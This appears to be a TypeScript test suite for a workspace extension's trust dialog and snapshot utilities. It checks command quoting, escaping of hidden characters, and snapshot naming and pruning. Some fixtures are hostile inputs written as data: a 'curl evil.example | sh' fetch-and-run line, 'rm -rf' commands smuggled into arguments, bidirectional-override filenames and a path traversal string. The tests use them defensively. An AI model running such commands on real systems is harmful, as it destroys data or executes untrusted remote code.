import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import type { IPane, IRunPlan, ISnapshot, ISpace } from '../src/api';
import {
  UNTRUSTED_MESSAGE,
  commandLine,
  formatBytes,
  hasHiddenCharacters,
  isSnapshotId,
  isUntrusted,
  missingDetail,
  missingText,
  panesDetail,
  panesText,
  parseKeep,
  pruneQueryString,
  quoteArg,
  restoreQuestion,
  restoreRefusal,
  snapshotLabel,
  snapshotName,
  sortSnapshots,
  trustItems,
  trustText,
  visibleText
} from '../src/snapshotutils';

function pane(over: Partial<IPane> = {}): IPane {
  return {
    id: 'p1',
    space_id: 's1',
    kind: 'command',
    title: 'web',
    argv: ['python', '-m', 'http.server', '8000'],
    cwd: '',
    env: {},
    created: '2026-03-01T10:00:00Z',
    last_active: '2026-03-01T10:00:00Z',
    state: 'gone',
    exit_code: null,
    exit_signal: null,
    pid: null,
    rows: null,
    cols: null,
    agent: null,
    session_id: null,
    ...over
  };
}

function space(panes: IPane[], over: Partial<ISpace> = {}): ISpace {
  return {
    id: 's1',
    name: 'proj',
    path: 'proj',
    status: 'ok',
    message: null,
    read_only: false,
    trusted: false,
    file_sha256: null,
    created: null,
    layout: null,
    panes,
    ...over
  };
}

function snapshot(over: Partial<ISnapshot> = {}): ISnapshot {
  return {
    id: '20260301-101500-3fa2',
    name: '',
    created: '2026-03-01T10:15:00Z',
    space_id: 's1',
    space_name: 'proj',
    panes: [],
    bytes: 0,
    missing_transcripts: [],
    ...over
  };
}

describe('formatBytes', () => {
  it('uses binary units, one decimal below ten', () => {
    assert.equal(formatBytes(0), '0 B');
    assert.equal(formatBytes(1), '1 B');
    assert.equal(formatBytes(1023), '1023 B');
    assert.equal(formatBytes(1024), '1 KiB');
    assert.equal(formatBytes(1536), '1.5 KiB');
    assert.equal(formatBytes(20 * 1024), '20 KiB');
    assert.equal(formatBytes(3 * 1024 * 1024), '3 MiB');
    assert.equal(formatBytes(5.25 * 1024 ** 3), '5.3 GiB');
  });

  it('never says "1024 KiB"', () => {
    assert.equal(formatBytes(1024 * 1024 - 1), '1 MiB');
    assert.equal(formatBytes(1024 * 1024 - 10), '1 MiB');
  });

  it('is 0 B for nonsense', () => {
    assert.equal(formatBytes(-5), '0 B');
    assert.equal(formatBytes(NaN), '0 B');
    assert.equal(formatBytes(null), '0 B');
    assert.equal(formatBytes(undefined), '0 B');
  });
});

describe('quoting commands for the Trust dialog', () => {
  it('leaves plain words alone and single-quotes the rest', () => {
    assert.equal(quoteArg('python'), 'python');
    assert.equal(quoteArg('--port=8000'), '--port=8000');
    assert.equal(quoteArg('a b'), "'a b'");
    assert.equal(quoteArg(''), "''");
    assert.equal(quoteArg("it's"), `'it'\\''s'`);
    assert.equal(quoteArg('$HOME; rm -rf ~'), "'$HOME; rm -rf ~'");
  });

  it('shows control characters as escapes, never as themselves', () => {
    const q = quoteArg('echo hi\nrm -rf ~\r');
    assert.equal(q, "$'echo hi\\nrm -rf ~\\r'");
    assert.ok(!/[\n\r]/.test(q));
    assert.equal(quoteArg('\x1b[2J'), "$'\\x1b[2J'");
    assert.equal(quoteArg("a'b\\c\t"), "$'a\\'b\\\\c\\t'");
  });

  it('shows bidirectional overrides and zero-width characters', () => {
    // "evil" written with a right-to-left override would read differently on screen.
    const q = quoteArg('safe\u202elive.sh');
    assert.equal(q, "$'safe\\u202elive.sh'");
    assert.equal(quoteArg('r\u200bm'), "$'r\\u200bm'");
    assert.equal(quoteArg('\ufeffx'), "$'\\ufeffx'");
    assert.equal(visibleText('a\u2066b\u2069'), 'a\\u2066b\\u2069');
    assert.ok(hasHiddenCharacters('x\u00ady'));
    assert.ok(!hasHiddenCharacters('café ünïcode 日本'));
  });

  it('joins an argv into one line', () => {
    assert.equal(commandLine(['sh', '-c', 'echo $((1+1))']), "sh -c 'echo $((1+1))'");
    assert.equal(commandLine([]), '');
    assert.equal(commandLine(null), '');
    assert.equal(commandLine(['a', 3 as unknown as string]), 'a 3');
  });
});

function plan(over: Partial<IRunPlan> = {}): IRunPlan {
  return {
    pane_id: 'p1',
    kind: 'command',
    argv: ['python', '-m', 'http.server', '8000'],
    env: {},
    cwd: 'proj',
    waits_for_enter: false,
    prints: null,
    notice: '',
    then_shell: null,
    session_id: null,
    running: false,
    ...over
  };
}

describe('trustItems', () => {
  it('lists what the server would run for each pane, where, with which environment', () => {
    const items = trustItems(
      {
        plans: [
          plan({ env: { B: '2', A: 'x y' }, cwd: 'proj/src', waits_for_enter: true }),
          plan({ pane_id: 'p2', kind: 'shell', argv: ['/bin/bash', '-l'], prints: '.jupyter-spaces/screens/p2.txt' })
        ]
      },
      space([pane(), pane({ id: 'p2', kind: 'shell', title: '' })])
    );
    assert.equal(items.length, 2);
    assert.deepEqual(items[0], {
      paneId: 'p1',
      title: 'web',
      kind: 'command',
      command: 'python -m http.server 8000',
      cwd: 'src',
      env: ["A='x y'", 'B=2'],
      notes: ['Waits for Enter before it runs.']
    });
    assert.equal(items[1].title, 'shell');
    assert.equal(items[1].command, '/bin/bash -l');
    assert.equal(items[1].cwd, '.');
    assert.deepEqual(items[1].notes, ['First shows the saved text of .jupyter-spaces/screens/p2.txt, as plain text.']);
  });

  it('shows the plan, not what the file says elsewhere', () => {
    // The pane's own fields say `ls`; the server would run what its plan says.
    const [item] = trustItems({ plans: [plan({ argv: ['curl', 'evil.example', '|', 'sh'] })] }, space([pane({ argv: ['ls'] })]));
    assert.equal(item.command, "curl evil.example '|' sh");
  });

  it('says what an agent pane does around its command, and marks panes that run now', () => {
    const [agent] = trustItems(
      {
        plans: [
          plan({
            kind: 'agent',
            argv: ['claude', '--resume', 'abc', '--model', 'opus'],
            then_shell: '/bin/bash',
            running: true
          })
        ]
      },
      space([pane({ kind: 'agent', agent: 'claude', title: 'fix tests' })])
    );
    assert.equal(agent.kind, 'Claude Code');
    assert.equal(agent.command, 'claude --resume abc --model opus');
    assert.deepEqual(agent.notes, [
      'It runs now; this is what it runs when it is started again.',
      'When it ends, /bin/bash takes over.'
    ]);
  });

  it('escapes hidden characters in titles, folders, commands and environment', () => {
    const [item] = trustItems(
      { plans: [plan({ cwd: 'proj/a\nb', env: { 'X\n': 'v\x1b' }, argv: ['echo', '\x1b[2J'] })] },
      space([pane({ title: 'ok\u202e' })])
    );
    assert.equal(item.title, 'ok\\u202e');
    assert.equal(item.cwd, 'a\\nb');
    assert.deepEqual(item.env, ["$'X\\n'=$'v\\x1b'"]);
    assert.equal(item.command, "echo $'\\x1b[2J'");
  });

  it('survives a malformed plan', () => {
    const broken = plan({ argv: 'rm -rf /' as unknown as string[], env: null as unknown as Record<string, string> });
    const [item] = trustItems({ plans: [broken] }, space([]));
    assert.equal(item.command, '');
    assert.deepEqual(item.env, []);
    assert.equal(item.title, 'p1');
  });

  it('makes a plain text of it, one command per line', () => {
    const text = trustText({ plans: [plan({ argv: ['sh', '-c', 'echo a\necho b'] })] }, space([pane()]));
    assert.equal(
      text,
      [
        'Trusting proj lets its pane run:',
        "• web (command, in the space's folder)",
        "    sh -c $'echo a\\necho b'"
      ].join('\n')
    );
    assert.equal(trustText({ plans: [] }, space([])), 'The space has no panes: trusting it starts nothing.');
  });
});

describe('isUntrusted', () => {
  it('is true only for an explicit false', () => {
    assert.equal(isUntrusted(space([])), true);
    assert.equal(isUntrusted(space([], { trusted: true })), false);
    assert.equal(isUntrusted({} as ISpace), false);
    assert.equal(isUntrusted(null), false);
    assert.match(UNTRUSTED_MESSAGE, /Nothing in it runs until you trust it\.$/);
  });
});

describe('snapshots in the list', () => {
  it('are named by their label, else by when they were taken', () => {
    const fmt = (v: string) => v.slice(0, 10);
    assert.equal(snapshotLabel(snapshot({ name: ' before refactor ' }), fmt), 'before refactor');
    assert.equal(snapshotLabel(snapshot(), fmt), 'snapshot of 2026-03-01');
    assert.equal(snapshotLabel(snapshot({ created: '' }), fmt), 'snapshot 20260301-101500-3fa2');
    assert.equal(snapshotLabel(snapshot({ name: 'x\u202ey' }), fmt), 'x\\u202ey');
  });

  it('count their panes and say which transcripts are missing', () => {
    const s = snapshot({
      panes: [
        { id: 'a', title: 'web', kind: 'command', agent: null, session_id: null, screen_bytes: 10, transcript: false },
        { id: 'b', title: '', kind: 'agent', agent: 'codex', session_id: 'x1', screen_bytes: 10, transcript: true }
      ],
      missing_transcripts: [{ agent: 'claude', session_id: 'dead-beef' }]
    });
    assert.equal(panesText(s), '2 panes');
    assert.equal(panesText(snapshot({ panes: [s.panes[0]] })), '1 pane');
    assert.equal(panesDetail(s), 'web (command)\nCodex (transcript saved)');
    assert.equal(missingText(s), '1 transcript missing');
    assert.equal(missingText(snapshot()), '');
    assert.match(missingDetail(s), /Claude Code session dead-beef$/);
    assert.equal(missingDetail(snapshot()), '');
  });

  it('sort newest first', () => {
    const a = snapshot({ id: '20260301-101500-aaaa', created: '2026-03-01T10:15:00Z' });
    const b = snapshot({ id: '20260302-101500-bbbb', created: '2026-03-02T10:15:00Z' });
    const c = snapshot({ id: '20260302-101500-cccc', created: '2026-03-02T10:15:00Z' });
    assert.deepEqual(sortSnapshots([a, b, c]).map(s => s.id), [c.id, b.id, a.id]);
  });

  it('have ids of one shape only', () => {
    assert.ok(isSnapshotId('20261124-071530-3fa2'));
    assert.ok(!isSnapshotId('../../etc'));
    assert.ok(!isSnapshotId('20261124-071530-3FA2'));
    assert.ok(!isSnapshotId(null));
  });
});

describe('snapshot names, prune and restore', () => {
  it('takes a name trimmed, refuses hidden characters and long names', () => {
    assert.equal(snapshotName('  v1  '), 'v1');
    assert.equal(snapshotName(null), '');
    assert.throws(() => snapshotName('a\nb'), /invisible/);
    assert.throws(() => snapshotName('x'.repeat(201)), /200/);
  });

  it('reads "keep" as a whole number', () => {
    assert.equal(parseKeep('3'), 3);
    assert.equal(parseKeep(' 0 '), 0);
    assert.equal(parseKeep('-1'), null);
    assert.equal(parseKeep('2.5'), null);
    assert.equal(parseKeep(''), null);
    assert.equal(parseKeep(4), 4);
    assert.equal(parseKeep(1.5), null);
  });

  it('builds the prune query', () => {
    assert.equal(pruneQueryString({ keep: 3 }), '?keep=3');
    assert.equal(pruneQueryString({ keep: 2.7, olderThanDays: 30 }), '?keep=2&older_than_days=30');
    assert.equal(pruneQueryString({}), '');
  });

  it('reads a refused restore defensively', () => {
    assert.deepEqual(restoreRefusal(409, { reason: 'running', message: 'm', panes: ['a', 3, 'b'] }), {
      status: 409,
      reason: 'running',
      message: 'm',
      panes: ['a', 'b']
    });
    assert.deepEqual(restoreRefusal(409, '<html>'), {
      status: 409,
      reason: null,
      message: 'The server refused (HTTP 409).',
      panes: []
    });
  });

  it('asks before stopping running panes', () => {
    assert.equal(restoreQuestion(2, 'proj'), 'Restoring stops 2 running panes in proj. Continue?');
    assert.equal(restoreQuestion(1, 'proj'), 'Restoring stops 1 running pane in proj. Continue?');
  });
});
